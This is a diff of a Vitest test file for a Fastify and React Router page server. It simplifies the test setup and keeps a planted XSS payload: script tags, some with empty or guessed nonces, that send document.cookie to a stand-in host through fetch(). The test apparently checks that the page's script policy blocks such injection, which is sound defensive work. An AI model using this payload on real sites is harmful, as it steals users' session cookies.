@@ -1,72 +1,28 @@
 import { createHash } from "node:crypto";
 import Fastify, { type FastifyInstance } from "fastify";
 import { createElement } from "react";
-import type { ServerBuild } from "react-router";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { defaultBrand } from "#contract/brand.ts";
-import type { Caller } from "#contract/caller.ts";
+import { registerTestPages } from "#server/testing/test-pages.ts";
 import * as entry from "#web/entry.server.tsx";
 import * as root from "#web/root.tsx";
-import { createPageCache } from "./page-cache.ts";
-import { registerPages } from "./pages.ts";
-import { createPagePolicy } from "./security-headers.ts";
 
 const planted = "fetch('https://elsewhere.example/?'+document.cookie)";
 const hostile = `<p>Text</p><script>${planted}</script><script nonce="">${planted}</script><script nonce="guess">${planted}</script>`;
 
-/** The real root and renderer around a screen whose text nobody has cleaned. */
-const build = {
-  entry: { module: entry },
-  routes: {
-    root: { id: "root", path: "", module: root },
-    any: {
-      id: "any",
-      parentId: "root",
-      path: "*",
-      module: {
-        loader: () => ({ hostile: `</script>${hostile}` }),
-        // biome-ignore lint/security/noDangerouslySetInnerHtml: that is what is tested
-        default: () => createElement("div", { dangerouslySetInnerHTML: { __html: hostile } }),
-      },
-    },
-  },
-  assets: {
-    entry: { imports: [], module: "/assets/entry.js" },
-    routes: {
-      root: { id: "root", path: "", module: "/assets/root.js", imports: [], hasLoader: true },
-      any: { id: "any", parentId: "root", path: "*", module: "/assets/any.js", imports: [], hasLoader: true },
-    },
-    url: "/assets/manifest.js",
-    version: "1",
-  },
-  assetsBuildDirectory: "",
-  basename: "/",
-  publicPath: "/",
-  future: {},
-  isSpaMode: false,
-  ssr: true,
-  prerender: [],
-  routeDiscovery: { mode: "initial" },
-} as unknown as ServerBuild;
+/** A screen whose text nobody has cleaned, in the real root and by the real renderer. */
+const screen = {
+  loader: () => ({ hostile: `</script>${hostile}` }),
+  // biome-ignore lint/security/noDangerouslySetInnerHtml: that is what is tested
+  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: hostile } }),
+};
+
+const getPaymentConfig = async () => ({ publishableKey: "", stripeJsUrl: "" });
 
 let app: FastifyInstance;
 beforeAll(async () => {
   app = Fastify();
-  await app.register((await import("@fastify/rate-limit")).default, { global: false });
-  await registerPages(app, {
-    build: async () => build,
-    calls: {
-      listCategoryPremiums: async () => ({ data: [] }),
-      getPaymentConfig: async () => ({}),
-    } as unknown as Caller,
-    brand: defaultBrand,
-    publicUrl: "https://shop.example",
-    paymentUrl: "http://localhost/payment",
-    policy: createPagePolicy({ jsUrl: "https://js.stripe.com/x.js", apiUrl: new URL("https://api.stripe.com") }, false),
-    mode: "production",
-    limit: app.createRateLimit({ max: 10_000, timeWindow: 60_000 }),
-    kept: createPageCache(2 ** 20),
-  });
+  const calls = { listCategoryPremiums: async () => ({ data: [] }), getPaymentConfig };
+  await registerTestPages(app, { entry, root, screen, calls });
 });
 afterAll(() => app.close());
 
